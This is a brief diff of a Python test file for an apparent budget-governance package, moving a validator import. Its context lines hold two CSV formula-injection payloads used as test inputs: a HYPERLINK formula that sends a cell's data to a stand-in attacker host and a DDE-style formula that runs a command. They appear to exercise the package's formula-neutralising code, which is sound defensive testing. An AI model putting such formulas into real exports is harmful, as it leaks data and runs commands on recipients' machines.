@@ -18,7 +18,6 @@ from pathlib import Path
 import duckdb
 import pyarrow.parquet as pq
 import pytest
-from focus_validator_env import validate
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -28,6 +27,7 @@ from mcp_budget_governor.csv_safety import FORMULA_STARTS, neutralise, neutralis
 from mcp_budget_governor.focus import FOCUS_1_2, Kind, check_row
 from mcp_budget_governor.prices import PriceTable
 from mcp_budget_governor.producers.file_ledger import FileLedger
+from testing.focus_validator_env import validate
 
 USER = '=HYPERLINK("http://evil.example/?d="&A1,"invoice")'
 TENANT = "+cmd|' /C calc'!A0"
